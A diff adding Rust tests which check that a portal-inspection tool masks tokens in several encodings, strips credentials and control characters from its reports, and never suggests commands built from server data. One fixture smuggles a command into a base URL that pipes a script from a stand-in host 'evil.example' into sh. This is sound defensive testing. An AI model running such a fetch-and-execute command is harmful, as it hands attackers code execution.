@@ -118,6 +118,8 @@ async fn a_token_that_is_repeated_where_a_text_is_cut_is_not_shown_in_part() {
         format!("Bearer {TOKEN}"),
         TOKEN.replace("the", "\\u0074he"),
         TOKEN.replace('-', "%2D"),
+        TOKEN.replace('-', "&#45;"),
+        TOKEN.replace('-', "&amp;#x2D;"),
     ];
     let tasks = forms.map(|form| {
         format!(r#"{{"taskId":"{before}{form}","taskState":{{"lastRunError":"{before}{form}"}}}}"#)
@@ -132,7 +134,44 @@ async fn a_token_that_is_repeated_where_a_text_is_cut_is_not_shown_in_part() {
     assert!(report.has_problem("scheduled-tasks"), "{}", report.text(true));
     for shown in [report.text(true), report.json()] {
         assert!(shown.contains("xxx***"), "{shown}");
-        assert!(!shown.contains("the-t") && !shown.contains("the%2D"), "{shown}");
+        for part in ["the-t", "the%2D", "the&"] {
+            assert!(!shown.contains(part), "{shown}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn credentials_and_orders_of_a_server_are_in_no_report_and_no_command_is_of_its_making() {
+    let base = "http://portal.example.com/x;curl$IFS-s$IFS'evil.example/a'|sh";
+    let page = serde_json::json!([{"data": {"app": {"baseUrl": base}, "backend": {"baseUrl": base}}}]);
+    let page = format!(
+        "<title>\u{202e} http://me:hunter2@h</title><script src=\"/a.js?token=hunter2\"></script><script type=\"backstage.io/config\">{page}</script>"
+    );
+    let error = "cannot reach postgres://me:hunter2@db: Bearer hunter2hunter2 \u{1b}[2J\u{9b}\u{202e}";
+    let task = serde_json::json!({"taskId": error, "taskState": {"lastRunError": error}});
+    let tasks = serde_json::json!({ "tasks": [task] }).to_string();
+    let refused = serde_json::json!({"error": {"message": error}}).to_string();
+    let server = Server::start(move |method, path| match path.split('?').next().unwrap() {
+        "/" if method == "GET" => answer(200, "text/html", &page),
+        "/api/catalog/.backstage/scheduler/v1/tasks" => answer(200, "application/json", &tasks),
+        "/api/catalog/entity-facets" => answer(401, "application/json", &refused),
+        _ => stock(method, path),
+    })
+    .await;
+    let tried = look_with(&server.url(), TOKEN).await;
+    let looked = look(&server.url()).await;
+    assert!(tried.has_problem("scheduled-tasks") && tried.has_problem("token"), "{}", tried.text(true));
+    for shown in [tried.text(true), tried.json(), looked.text(true), looked.json()] {
+        assert!(!shown.contains("hunter2"), "{shown}");
+        let order = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
+        assert!(!shown.contains(order), "{shown:?}");
+    }
+    for report in [tried, looked] {
+        let json: serde_json::Value = serde_json::from_str(&report.json()).unwrap();
+        let findings = json["findings"].as_array().unwrap();
+        let commands: Vec<_> = findings.iter().filter_map(|finding| finding["change"].as_str()).collect();
+        assert!(commands.contains(&"greenroom look http://portal.example.com"), "{commands:#?}");
+        assert!(commands.iter().all(|command| !command.contains("IFS")), "{commands:#?}");
     }
 }
 
